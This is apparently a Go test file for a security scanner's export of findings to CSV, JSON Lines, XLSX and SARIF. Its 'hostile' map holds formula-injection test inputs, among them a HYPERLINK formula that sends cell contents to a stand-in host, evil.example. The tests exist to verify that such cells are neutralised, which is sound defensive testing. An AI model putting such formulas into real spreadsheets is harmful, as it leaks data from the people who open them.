package export

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"os"
	"path"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/santhosh-tekuri/jsonschema/v6"
	"github.com/xuri/excelize/v2"

	"github.com/redoubt/redoubt/api"
	"github.com/redoubt/redoubt/internal/model"
	"github.com/redoubt/redoubt/internal/report"
)

// listed is a selection of given findings.
type listed struct {
	issueType model.IssueType
	findings  []api.Finding
	more      int // additional findings in Total that do not exist
	err       error
}

func (l *listed) Total() int { return len(l.findings) + l.more }

func (l *listed) Next(_ context.Context, size int, yield func(model.IssueType, []byte) error) (bool, error) {
	n := min(size, len(l.findings))
	for _, f := range l.findings[:n] {
		text, err := json.Marshal(f)
		if err != nil {
			return false, err
		}
		if err := yield(l.issueType, text); err != nil {
			return false, err
		}
	}
	l.findings = l.findings[n:]
	if len(l.findings) == 0 && l.err != nil {
		return false, l.err
	}
	return n > 0, nil
}

func aFinding(id int64) api.Finding {
	message := "eval is dangerous"
	at := api.Time{Time: time.Date(2026, 5, 28, 6, 38, 54, 962_941_000, time.UTC)}
	return api.Finding{FindingCore: api.FindingCore{
		ID: id, CreatedAt: at, RelevantSince: at, FirstSeenScanID: 3, Categories: []string{"security"}, Confidence: "high", Severity: "critical",
		Ref: "refs/heads/main", Repository: api.Repository{Name: "acme/payments", URL: "https://git.example/acme/payments"},
		Location: api.Location{FilePath: "src/app.py", Line: 10, Column: 5, EndLine: 12, EndColumn: 20}, MatchBasedID: "abc_0",
		Rule:     api.RuleSummary{Name: "python.eval", Message: "Do not.", Confidence: "high", Category: "security", CWENames: []string{"CWE-95: Eval Injection"}, OWASPNames: []string{"A03:2021 - Injection"}},
		RuleName: "python.eval", RuleMessage: &message, State: "unresolved", Status: "open", TriageState: "untriaged",
	}}
}

func dependencyFinding(id int64) api.Finding {
	f := aFinding(id)
	f.FoundDependency = &api.FoundDependency{Ecosystem: "npm", Package: "lodash", Version: "4.17.20", Transitivity: "direct"}
	f.FixRecommendations = []api.FixRecommendation{{Package: "lodash", Version: "4.17.21"}, {Package: "lodash-es", Version: "4.17.21"}}
	f.EPSSScore, f.Reachability, f.IsMalicious = &api.EPSSScore{Score: 0.42, Percentile: 0.91}, "reachable", new(bool)
	name := "CVE-2021-23337"
	f.VulnerabilityIdentifier = &name
	f.RuleName, f.Rule.Name = "ssc-lodash", "ssc-lodash"
	return f
}

func write(t *testing.T, f Format, parts ...Selection) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := Write(t.Context(), &buf, f, parts, Options{Version: "1.0"}); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// at returns the value of a column in a row.
func at(t *testing.T, row []string, name string) string {
	t.Helper()
	i := slices.IndexFunc(columns, func(c column) bool { return c.name == name })
	if i < 0 {
		t.Fatalf("there is no column %s", name)
	}
	if i >= len(row) {
		return ""
	}
	return row[i]
}

func table(t *testing.T, text []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func TestCSV(t *testing.T) {
	rows := table(t, write(t, CSV, &listed{issueType: model.SCA, findings: []api.Finding{dependencyFinding(7)}}, &listed{issueType: model.SAST, findings: []api.Finding{aFinding(8)}}))
	if len(rows) != 3 || rows[0][0] != "id" || len(rows[0]) != len(columns) {
		t.Fatalf("%d rows: %v", len(rows), rows[0])
	}
	for name, want := range map[string]string{
		"id": "7", "issue_type": "sca", "project": "acme/payments", "line": "10", "cwe": "CWE-95: Eval Injection", "created_at": "2026-05-28T06:38:54.962941Z",
		"triaged_at": "", "package": "lodash", "fixed_in": "4.17.21; lodash-es 4.17.21", "malicious": "false", "epss_score": "0.42", "historical": "", "vulnerability": "CVE-2021-23337",
	} {
		if got := at(t, rows[1], name); got != want {
			t.Errorf("%s is %q, want %q", name, got, want)
		}
	}
	if at(t, rows[2], "issue_type") != "sast" || at(t, rows[2], "package") != "" {
		t.Errorf("code: %v", rows[2])
	}
}

// hostile contains texts, and whether spreadsheets could evaluate them.
var hostile = map[string]bool{
	"=1+1": true, "+1": true, "-2+3": true, "@SUM(A1)": true, "\t=1": true, "\r=1": true, "\n=1": true, " =1": true, "＝1": true, "＠x": true, "\ufeff=1": true,
	`=HYPERLINK("http://evil.example?"&A1)`: true, "a=b": false, "\"quoted\", with; all": false, "two\nlines": false, "a\x00b": false,
	"": false, "_x000D_": false, "1-2": false, "é=": false, strings.Repeat("x", 40_000): false,
}

// TestCellsAreNotFormulas checks that scanner texts are never formulas in any column, and that they
// are complete.
func TestCellsAreNotFormulas(t *testing.T) {
	for text, bad := range hostile {
		f := aFinding(1)
		f.RuleMessage, f.TriageComment, f.Location.FilePath, f.RuleName, f.Assignee = &text, &text, text, text, text
		f.Repository.Name, f.Categories, f.Ref = text, []string{text}, text
		row := table(t, write(t, CSV, &listed{issueType: model.SAST, findings: []api.Finding{f}}))[1]
		want := strings.ReplaceAll(text, "\r\n", "\n")
		if bad {
			want = "'" + strings.NewReplacer("\t=", "\t'=", "\r=", "\r'=", "\n=", "\n'=").Replace(want)
		}
		for _, name := range []string{"path", "rule", "triage_comment", "assignee", "project", "categories", "ref"} {
			if got := at(t, row, name); got != want {
				t.Errorf("%s of %q is %q, want %q", name, text, got, want)
			}
		}
	}
}

func TestJSONLines(t *testing.T) {
	want := dependencyFinding(7)
	lines := strings.Split(string(write(t, JSONL, &listed{issueType: model.SCA, findings: []api.Finding{want, aFinding(8)}})), "\n")
	if len(lines) != 3 || lines[2] != "" {
		t.Fatalf("%d lines", len(lines))
	}
	var got struct {
		IssueType string `json:"issue_type"`
		api.Finding
	}
	if err := json.Unmarshal([]byte(lines[0]), &got); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(want, got.Finding); diff != "" || got.IssueType != "sca" {
		t.Errorf("%s (-want +got):\n%s", got.IssueType, diff)
	}
}

// TestXLSX checks that another library reads the written values with their types.
func TestXLSX(t *testing.T) {
	for text, bad := range hostile {
		f := dependencyFinding(7)
		f.TriageComment = &text
		book, err := excelize.OpenReader(bytes.NewReader(write(t, XLSX, &listed{issueType: model.SCA, findings: []api.Finding{f}})))
		if err != nil {
			t.Fatal(err)
		}
		rows, err := book.GetRows("Findings")
		if err != nil || len(rows) != 2 {
			t.Fatalf("%d rows, %v", len(rows), err)
		}
		want := strings.ReplaceAll(text, "\x00", "\ufffd")
		if len(want) > cellUnits {
			want = want[:cellUnits-1] + "…"
		}
		if got := at(t, rows[1], "triage_comment"); got != want && strings.ReplaceAll(got, "\n", "") != strings.NewReplacer("\r", "", "\n", "").Replace(want) {
			t.Errorf("%.50q is read as %.50q", text, got)
		}
		if got := at(t, rows[1], "created_at"); got != "2026-05-28 06:38:55" && got != "2026-05-28 06:38:54" {
			t.Errorf("created at %s", got)
		}
		cell := columnName(slices.IndexFunc(columns, func(c column) bool { return c.name == "triage_comment" })) + "2"
		if formula, err := book.GetCellFormula("Findings", cell); err != nil || formula != "" {
			t.Errorf("%q is computed: %q, %v", text, formula, err)
		}
		style, err := book.GetCellStyle("Findings", cell)
		if err != nil || (style == quotedStyle) != bad {
			t.Errorf("%q has style %d, %v", text, style, err)
		}
		if kind, err := book.GetCellType("Findings", "A2"); err != nil || kind != excelize.CellTypeUnset && kind != excelize.CellTypeNumber {
			t.Errorf("the id is of type %v, %v", kind, err)
		}
	}
}

// TestSheets checks that a full sheet is followed by another one, and that an announced sheet
// without findings is empty.
func TestSheets(t *testing.T) {
	var buf bytes.Buffer
	x, err := newXLSX(&buf, sheetRows)
	if err != nil {
		t.Fatal(err)
	}
	raw, err := json.Marshal(aFinding(1))
	if err != nil {
		t.Fatal(err)
	}
	x.row = sheetRows - 1 // nearly full
	for range 3 {
		if err := x.raw(model.SAST, raw); err != nil {
			t.Fatal(err)
		}
	}
	if err := x.close(); err != nil {
		t.Fatal(err)
	}
	book, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	if names := book.GetSheetList(); !slices.Equal(names, []string{"Findings", "Findings 2"}) {
		t.Errorf("sheets %v", names)
	}
	if rows, err := book.GetRows("Findings 2"); err != nil || len(rows) != 3 || rows[0][0] != "id" {
		t.Errorf("the second sheet has %d rows, %v", len(rows), err)
	}
	empty := write(t, XLSX, &listed{issueType: model.SAST, findings: []api.Finding{aFinding(1)}, more: 2 * sheetRows})
	if book, err = excelize.OpenReader(bytes.NewReader(empty)); err != nil || len(book.GetSheetList()) != 3 {
		t.Errorf("announced: %v", err)
	}
	archive, err := zip.NewReader(bytes.NewReader(empty), int64(len(empty)))
	if err != nil {
		t.Fatal(err)
	}
	if first := archive.File[0].Name; first != "[Content_Types].xml" {
		t.Errorf("the archive begins with %s", path.Base(first))
	}
}

// TestSARIFMatchesSchema checks findings with all fields and with none.
func TestSARIFMatchesSchema(t *testing.T) {
	compiler := jsonschema.NewCompiler()
	text, err := os.ReadFile("testdata/sarif-schema-2.1.0.json")
	if err != nil {
		t.Fatal(err)
	}
	document, err := jsonschema.UnmarshalJSON(bytes.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	if err := compiler.AddResource("sarif.json", document); err != nil {
		t.Fatal(err)
	}
	compiler.AssertFormat()
	schema, err := compiler.Compile("sarif.json")
	if err != nil {
		t.Fatal(err)
	}
	ignored, fixed, bare := aFinding(2), aFinding(3), aFinding(4)
	comment := "not [reached](1)"
	ignored.Status, ignored.State, ignored.TriageComment = "ignored", "muted", &comment
	fixed.Status, fixed.Location.FilePath = "fixed", "a:b/%41 ü?#[x].py"
	bare.Location.Line, bare.RuleMessage, bare.Rule.Message, bare.MatchBasedID, bare.Repository.URL = 0, nil, "", "", ""
	secret := aFinding(5)
	kind := "AWS"
	secret.SecretType, secret.ValidationState = &kind, "no_validator"
	for name, parts := range map[string][]Selection{
		"nothing": nil,
		"all": {
			&listed{issueType: model.SAST, findings: []api.Finding{aFinding(1), ignored, fixed}},
			&listed{issueType: model.SAST, findings: []api.Finding{bare}},
			&listed{issueType: model.SCA, findings: []api.Finding{dependencyFinding(6)}},
			&listed{issueType: model.Secrets, findings: []api.Finding{secret}},
		},
	} {
		value, err := jsonschema.UnmarshalJSON(bytes.NewReader(write(t, SARIF, parts...)))
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if err := schema.Validate(value); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// TestExportErrors checks that errors are returned and that the file is not completed after one.
func TestExportErrors(t *testing.T) {
	gone := errors.New("gone")
	for _, f := range Formats() {
		var buf bytes.Buffer
		err := Write(t.Context(), &buf, f, []Selection{&listed{issueType: model.SAST, findings: []api.Finding{aFinding(1)}, err: gone}}, Options{})
		if !errors.Is(err, gone) {
			t.Errorf("%s: %v", f, err)
		}
		if f == SARIF && json.Valid(buf.Bytes()) {
			t.Errorf("a broken export is whole: %s", buf.Bytes())
		}
		given, cancel := context.WithCancel(t.Context())
		cancel()
		if err := Write(given, io.Discard, f, []Selection{&listed{issueType: model.SAST}}, Options{}); !errors.Is(err, context.Canceled) {
			t.Errorf("%s, given up: %v", f, err)
		}
	}
	if err := Write(t.Context(), io.Discard, "xml", nil, Options{}); err == nil {
		t.Error("an unknown format is written")
	}
}

// TestColumnsAreDocumented checks that the documentation lists the columns in order.
func TestColumnsAreDocumented(t *testing.T) {
	var names []string
	for _, c := range columns {
		names = append(names, c.name)
	}
	page, err := os.ReadFile("../../docs/guides/export.md")
	if err != nil {
		t.Fatal(err)
	}
	text := strings.Join(strings.Fields(string(page)), " ") // lines are wrapped
	if want := "`" + strings.Join(names, "`, `") + "`"; !strings.Contains(text, want) {
		t.Errorf("docs/guides/export.md does not list %s", want)
	}
}

// TestExportDistinguishesUnratedFromMedium checks that tables do not show unrated vulnerabilities as medium,
// and that SARIF contains a property in addition to the severity.
func TestExportDistinguishesUnratedFromMedium(t *testing.T) {
	f := dependencyFinding(7)
	for _, unrated := range []bool{false, true} {
		f.Severity, f.Unrated = "medium", unrated
		want := map[bool]string{false: "medium", true: "not rated"}[unrated]
		rows := table(t, write(t, CSV, &listed{issueType: model.SCA, findings: []api.Finding{f}}))
		if got := at(t, rows[1], "severity"); got != want {
			t.Errorf("the severity is %q, want %q", got, want)
		}
		log := string(write(t, SARIF, &listed{issueType: model.SCA, findings: []api.Finding{f}}))
		if strings.Contains(log, `"severityUnrated":true`) != unrated || !strings.Contains(log, `"severity":"medium"`) {
			t.Errorf("of unrated %v the log says %s", unrated, log)
		}
		reports, err := report.Read(strings.NewReader(log), report.Options{Name: "log.sarif"})
		if err != nil || reports[0].Results[0].Dependency.Unrated != unrated {
			t.Errorf("unrated %v came back as something else: %v", unrated, err)
		}
	}
}
